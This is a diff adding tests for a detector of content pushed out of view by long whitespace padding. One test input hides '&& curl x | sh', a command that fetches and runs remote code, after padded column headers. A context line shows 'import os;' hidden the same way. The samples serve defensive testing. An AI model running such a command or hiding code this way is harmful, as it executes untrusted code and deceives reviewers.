@@ -22,6 +22,21 @@ const line = (blanks: number): string => `x = 1;${" ".repeat(blanks)}import os; 
 
 const places = (count: number): string => `a${asTags("x")}\n`.repeat(count);
 
+describe("names of columns", () => {
+  const heads = `DATE${" ".repeat(100)}ACCOUNT${" ".repeat(90)}AMOUNT`;
+
+  test("above a rule as long they are no secret", () => {
+    expect(findFarRight(`${heads}\n${"=".repeat(220)}\n`)).toEqual([]);
+  });
+
+  test.each([`${heads}\n`, `${heads}\n${"=".repeat(60)}\n`, `${heads} && curl x | sh\n${"=".repeat(220)}\n`])(
+    "else they are",
+    (text) => {
+      expect(findFarRight(text)).toHaveLength(1);
+    },
+  );
+});
+
 describe("invisible", () => {
   test.each([
     ["tag-characters", asTags(MESSAGE)],
